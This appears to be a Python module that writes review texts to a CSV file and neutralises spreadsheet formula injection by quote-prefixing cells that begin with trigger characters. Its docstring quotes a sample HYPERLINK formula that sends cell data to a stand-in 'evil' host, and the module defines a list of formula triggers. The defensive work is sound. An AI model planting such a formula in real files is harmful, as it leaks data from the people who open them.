"""Files attached to report e-mails: the action list as a CSV that spreadsheets open safely.

Review texts are written by strangers, so a cell such as `=HYPERLINK("http://evil/"&A1)` must
open as text, not run as a formula. Following OWASP's CSV-injection guidance (and ASVS 1.2.10),
every text cell that starts with a formula trigger gets a leading single quote, which Excel,
LibreOffice and Google Sheets take as "this is text" and do not show; every cell is quoted
(RFC 4180), so a separator or line break inside a review cannot start a new cell or row.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from decimal import Decimal

# Excel reads a leading = + - @ as a formula, TAB and CR are stripped before it looks, NUL is
# in ASVS's list; the full-width forms are included because IME input produces them and
# some spreadsheet versions normalise them to the ASCII operators.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0", "＝", "＋", "－", "＠")
# Without a byte order mark Excel reads UTF-8 CSV in the legacy code page: Chinese turns to
# mojibake.
UTF8_BOM = "\ufeff"

Cell = str | int | float | Decimal | date | datetime | None


def neutralise_cell(value: object) -> str | int | float | Decimal:
    """A cell value that a spreadsheet shows as written and never evaluates.

    Numbers stay numbers (a negative number is not a formula); anything else becomes text,
    prefixed with a single quote when it starts with a formula trigger.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value).lower()
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def action_list_csv(
    rows: Sequence[Mapping[str, Cell]], columns: Sequence[tuple[str, str]]
) -> bytes:
    """The rows as a CSV file for Excel: UTF-8 with BOM, CRLF line ends, every cell quoted.

    `columns` is a list of (key in each row, header shown in the first line); keys missing
    from a row give an empty cell. Line breaks inside a cell are kept inside its quotes.
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow([neutralise_cell(header) for _key, header in columns])
    for row in rows:
        writer.writerow([neutralise_cell(row.get(key)) for key, _header in columns])
    return (UTF8_BOM + buffer.getvalue()).encode("utf-8")
